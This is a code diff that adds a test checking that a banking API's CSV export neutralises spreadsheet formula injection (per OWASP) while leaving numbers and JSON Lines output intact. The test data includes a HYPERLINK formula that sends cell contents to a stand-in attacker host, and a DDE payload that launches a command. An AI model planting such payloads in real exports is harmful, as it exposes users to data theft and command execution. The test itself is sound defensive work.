@@ -230,4 +230,37 @@ describe('list exports', () => {
     expect(forged.status).toBe(401)
     expect(await codeOf(forged)).toBe('UNAUTHENTICATED')
   })
+
+  test('text a spreadsheet would run as a formula is neutralised in CSV (OWASP), numbers stay numbers, JSON Lines is unchanged', async () => {
+    const teller = await bearer('customer_service', { subject: 'csv-injection-teller' })
+    const [account] = await mesh.databases.transactions.query<{ id: string }>(`SELECT id FROM "Account" WHERE status = 'OPEN' ORDER BY id DESC LIMIT 1`)
+    // (A leading tab or carriage return, also neutralised, cannot be booked: statement lines are trimmed.)
+    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)']
+    const harmless = ['-42.50', '+7', 'Rent, March', 'plain text']
+    const booked = new Map<string, { description: string; formula: boolean }>()
+    for (const description of [...formulas, ...harmless]) {
+      const response = await fetch(mesh.gatewayUrl, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', ...teller },
+        body: JSON.stringify({
+          query: 'mutation($input: RecordTransactionInput!) { recordTransaction(input: $input) { id description } }',
+          variables: { input: { accountId: account!.id, type: 'PAYMENT', amount: '1.25', description, channel: 'CARD' } },
+        }),
+      })
+      const { data, errors } = (await response.json()) as { data?: { recordTransaction: { id: string; description: string } }; errors?: unknown[] }
+      expect(errors).toBeUndefined()
+      booked.set(data!.recordTransaction.id, { description: data!.recordTransaction.description, formula: formulas.includes(description) })
+    }
+    const statement = { query: 'query($account: ID) { transactions(filter: { accountId: $account }, first: 1000) { edges { node { id amount description } } } }', variables: { account: account!.id } }
+    const csv = await exportList({ ...statement, format: 'csv' }, await bearer('analyst'))
+    const text = await csv.text()
+    const cells = new Map(parseCsv(text).slice(1).map(([id, amount, description]) => [id!, { amount, description }]))
+    for (const [id, { description, formula }] of booked) expect(cells.get(id)).toEqual({ amount: '1.25', description: formula ? `'${description}` : description })
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`)
+    expect(text).toMatch(/,-42\.50\r\n/)
+
+    const jsonl = await exportList({ ...statement, format: 'jsonl' }, await bearer('analyst'))
+    const lines = (await jsonl.text()).trimEnd().split('\n').map((line) => JSON.parse(line) as { id: string; description: string })
+    for (const [id, { description }] of booked) expect(lines.find((line) => line.id === id)?.description).toBe(description)
+  })
 })
